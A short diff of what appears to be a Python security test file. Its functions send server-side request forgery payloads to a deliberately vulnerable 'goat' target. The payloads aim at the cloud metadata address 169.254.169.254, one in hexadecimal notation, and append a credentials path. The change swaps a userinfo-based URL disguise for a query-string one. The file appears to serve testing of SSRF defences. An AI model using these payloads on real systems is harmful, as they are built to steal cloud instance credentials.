@@ -10,8 +10,8 @@ def attack_in_another_notation(goat):
     return take(goat, f"http://0xA9FEA9FE{CREDENTIALS}")
 
 
-def attack_behind_a_registry(goat):
-    return take(goat, f"http://cattle.example@169.254.169.254{CREDENTIALS}?https://cattle.example/")
+def attack_with_a_registrys_name(goat):
+    return take(goat, f"http://169.254.169.254{CREDENTIALS}?https://cattle.example/")
 
 
 def attack_inside(goat):
